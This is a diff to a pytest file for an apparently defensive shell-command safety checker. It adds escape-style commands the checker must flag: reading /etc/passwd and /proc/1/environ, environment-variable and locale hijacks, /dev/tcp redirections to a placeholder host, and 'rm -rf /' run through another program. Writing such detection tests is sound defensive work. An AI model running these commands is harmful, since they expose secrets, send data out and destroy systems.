@@ -157,6 +157,10 @@ ESCAPES = (
     "NODE_OPTIONS=x node f", "PERL5OPT=x perl f", "RUBYOPT=x ruby f", "JAVA_TOOL_OPTIONS=x java", "TAR_OPTIONS=x tar",
     "MAKEFLAGS=x make", "GREP_OPTIONS=x grep", "export LD_LIBRARY_PATH=.", "readonly PATH=.", "declare PATH=.",
     "find . -execdir ./x ';'", "./ls", "/tmp/cat f", "~/bin/git status", "../sudo ls", "$HOME/ls", "./env ls",
+    "echo x > /proc/self/cwd/f", "cat //proc/self/root/etc/passwd", "cat /proc/1/environ", "LC_ALL=zh_CN.GBK ls",
+    "export LANG=ja_JP.SJIS", "env LC_CTYPE=zh_TW sh -c ls", "LC_ALL=$x ls", "npm_config_script_shell=./x npm test",
+    "foo /bin/sh", "foo bash", "foo -x sh -c 'ls $x'", "fzf --bind 'enter:execute(ls)'", "dmsetup ls --exec ls",
+    "echo 'esyscmd(ls)' | m4", "yt-dlp --exec ls u", "docker run -v /:/m x", "exiftool -if 'system(ls)' f",
     "echo x > /dev/tcp/h/1", "cat </dev/udp/h/1", "exec 3<>/dev/tcp/h/1", "{ ls; } >/dev//tcp/h/1",
 )  # fmt: skip
 
@@ -181,3 +185,16 @@ ORDINARY = (
 @pytest.mark.parametrize("line", ORDINARY)
 def test_an_ordinary_line_has_no_problem(line: str) -> None:
     assert is_safe(line)
+
+
+@pytest.mark.parametrize("line", ["foo rm -rf /", "foo -n 1 /bin/rm -rf /", "foo sh -c 'rm -rf /'"])
+def test_what_an_unknown_program_may_start_is_judged_too(line: str) -> None:
+    assert ("rm", "-rf", "/") in [
+        (use.program, *use.argv[1:]) for use in judge(line)[1] if use.program == "rm"
+    ]
+
+
+def test_a_descriptor_is_what_was_opened_before() -> None:
+    (use,) = judge("cat /dev/fd/3 3<.env")[1]
+    assert [path.path for path in use.paths] == ["/p/.env"]
+    assert not use.problems
